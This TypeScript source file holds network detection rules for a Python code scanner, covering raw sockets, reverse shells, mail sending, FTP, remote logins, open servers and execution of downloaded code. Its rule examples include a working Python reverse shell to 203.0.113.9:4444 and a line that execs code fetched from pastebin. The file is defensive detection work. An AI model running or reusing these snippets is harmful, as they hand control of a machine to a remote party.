/** Protocols besides web requests: sockets, mail, files, remote sessions, servers, and code from the network. */
import { argument } from '../flow/values.ts';
import { isLocalHost } from '../network.ts';
import { producedBy } from './produced.ts';
import { readData } from './read-data.ts';
import { type BehaviourRule, callRule } from './rule.ts';

/** A rule for calls and for the commands that do the same. */
function withCommands(pattern: RegExp, rule: Parameters<typeof callRule>[0]): BehaviourRule {
  const { message } = rule;
  return { ...callRule(rule), onCommand: ({ text }) => (pattern.test(text) ? { message } : undefined) };
}

export const rules: readonly BehaviourRule[] = [
  callRule({
    id: 'PYS-NET-007',
    category: 'network',
    title: 'Speaks over raw sockets',
    severity: 'low',
    confidence: 'medium',
    rationale: 'A raw socket carries any protocol, which a proxy does not see into.',
    remediation: 'Use a protocol library over TLS.',
    example: 'import socket\ns = socket.socket()\ns.connect(("files.partner-site.com", 9000))',
    message: 'Connects or listens on a raw socket',
    calls: [
      'socket.socket().connect',
      'socket.socket().bind',
      'socket.create_connection',
      'socket.socket().connect_ex',
      'socket.create_server',
    ],
    when: (call) => !isLocalHost(call.args[0]?.items?.[0]?.text ?? ''),
  }),
  {
    id: 'PYS-NET-008',
    category: 'network',
    title: 'Gives a shell to a remote host',
    severity: 'critical',
    confidence: 'high',
    cwe: 912,
    rationale: 'The script ties a socket to a shell or to the output of commands: a reverse shell.',
    remediation: 'Isolate the machine and find out who put the script there.',
    example:
      'import socket, os, subprocess\ns = socket.socket()\ns.connect(("203.0.113.9", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])',
    calls: ['os.dup2', 'pty.spawn', 'subprocess.*', 'os.popen', 'os.system'],
    onCall: (call, facts) => {
      const remote = facts.behaviour.calls.some((each) =>
        /^socket\.(?:socket\(\)\.connect|create_connection)/.test(each.path),
      );
      if (!remote) return undefined;
      const received = call.args[0] !== undefined && producedBy(call.args[0], /\.recv(?:from)?$/);
      const duplicated =
        call.path === 'os.dup2' &&
        call.args[0] !== undefined &&
        /^(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))$/.test(call.args[1]?.path ?? '') &&
        producedBy(call.args[0], /^socket\..*\.fileno$/);
      return received || duplicated
        ? {
            message: received
              ? 'Runs commands that arrive over a socket'
              : 'Ties standard streams to a socket',
          }
        : undefined;
    },
  },
  {
    id: 'PYS-NET-009',
    category: 'network',
    title: 'Sends mail',
    severity: 'low',
    confidence: 'high',
    rationale:
      'The script sends mail by itself; attachments and bodies leave the organisation if the recipients are outside.',
    remediation: 'Send through the organisation’s relay, with fixed recipients.',
    example:
      'import smtplib\nsmtplib.SMTP("mail.corp.local").sendmail("a@corp.local", ["b@corp.local"], "text")',
    calls: [
      'smtplib.SMTP().sendmail',
      'smtplib.SMTP().send_message',
      'smtplib.SMTP_SSL().sendmail',
      'smtplib.SMTP_SSL().send_message',
      'yagmail.SMTP().send',
      'aiosmtplib.send',
      'exchangelib.Message().send',
      'exchangelib.Message().send_and_save',
      'redmail.gmail.send',
      'redmail.EmailSender().send',
      'django.core.mail.send_mail',
      'sendgrid.SendGridAPIClient().send',
      '*.CreateItem().Send',
      '*.sendmail',
    ],
    onCall: (call) => {
      const sent = readData(
        [call.receiver, ...call.args].flatMap((value) => (value === undefined ? [] : [value])),
      );
      if (sent === undefined) return { message: 'Sends mail' };
      return { message: `Sends mail with data of a ${sent}`, severity: 'medium', details: { source: sent } };
    },
  },
  callRule({
    id: 'PYS-NET-010',
    category: 'network',
    title: 'Transfers files with FTP',
    severity: 'medium',
    confidence: 'high',
    cwe: 319,
    rationale: 'FTP sends the password and the files in clear.',
    remediation: 'Use SFTP or FTPS.',
    example: 'import ftplib\nftplib.FTP("ftp.partner-site.com", "user", pw).storbinary("STOR a.csv", f)',
    message: 'Uses FTP, which is not encrypted',
    calls: ['ftplib.FTP', 'telnetlib.Telnet', 'telnetlib3.open_connection', 'tftpy.TftpClient'],
  }),
  withCommands(/^\s*(?:(?:ssh|scp|sftp|sshpass|plink|pscp|psexec)(?:\.exe)?\s|rsync\s.*\w:)/i, {
    id: 'PYS-NET-011',
    category: 'network',
    title: 'Logs in to other machines',
    severity: 'low',
    confidence: 'high',
    rationale: 'The script opens sessions on other machines and runs commands or copies files there.',
    remediation: 'Use key-based accounts with the least rights, and check host keys.',
    example: 'import paramiko\nparamiko.SSHClient().connect("srv01.corp.local")',
    message: 'Opens a session on another machine',
    calls: [
      'paramiko.SSHClient().connect',
      'paramiko.Transport',
      'pysftp.Connection',
      'fabric.Connection',
      'asyncssh.connect',
      'netmiko.ConnectHandler',
      'winrm.Session',
      'winrm.Protocol',
      'pypsexec.client.Client',
      'pexpect.pxssh.pxssh().login',
      'smb.SMBConnection.SMBConnection',
      'smbclient.open_file',
      'impacket.smbconnection.SMBConnection',
      'smbclient.register_session',
      'wmi.WMI',
    ],
    when: (call) => call.path !== 'wmi.WMI' || argument(call, 0, 'computer') !== undefined,
  }),
  callRule({
    id: 'PYS-NET-015',
    category: 'network',
    title: 'Serves on all network interfaces',
    severity: 'low',
    confidence: 'high',
    cwe: 668,
    rationale:
      'Everyone in the network can reach the server, often a development server without authentication.',
    remediation: 'Bind to localhost, or put an authenticating proxy in front.',
    example: 'from flask import Flask\napp = Flask(__name__)\napp.run(host="0.0.0.0")',
    message: 'Listens on all interfaces',
    calls: [
      '*.run',
      'uvicorn.run',
      'http.server.HTTPServer',
      'socketserver.TCPServer',
      'waitress.serve',
      '*.launch',
      '*.bind',
      'asyncio.start_server',
      'http.server.ThreadingHTTPServer',
    ],
    when: (call) => {
      const host = argument(call, -1, 'host', 'server_name')?.text ?? call.args[0]?.items?.[0]?.text;
      const share = argument(call, -1, 'share')?.path === 'True' && call.path.startsWith('gradio.');
      return (
        host === '0.0.0.0' || host === '::' || share || (host === '' && /(?:Server|bind)$/.test(call.path))
      );
    },
  }),
  {
    id: 'PYS-NET-016',
    category: 'network',
    title: 'Runs code that it downloads',
    severity: 'high',
    confidence: 'high',
    cwe: 494,
    rationale:
      'Text fetched from the network is executed. Whoever controls the host, or the connection to it, controls this machine.',
    remediation: 'Ship the code with the script, or verify a signature before running it.',
    example: 'import requests\nexec(requests.get("https://pastebin.com/raw/x").text)',
    calls: [
      'exec',
      'eval',
      'compile',
      'os.system',
      'subprocess.*',
      'marshal.loads',
      'pickle.loads',
      'types.FunctionType',
    ],
    onCall: (call) => {
      const given = call.args[0];
      if (given === undefined) return undefined;
      const fetched = producedBy(
        given,
        /^(?:requests|httpx|urllib\.request|urllib2?|aiohttp|urllib3)\b.*\.(?:get|post|request|urlopen|read)$/,
      );
      return fetched ? { message: `Passes downloaded content to ${call.path}` } : undefined;
    },
  },
];
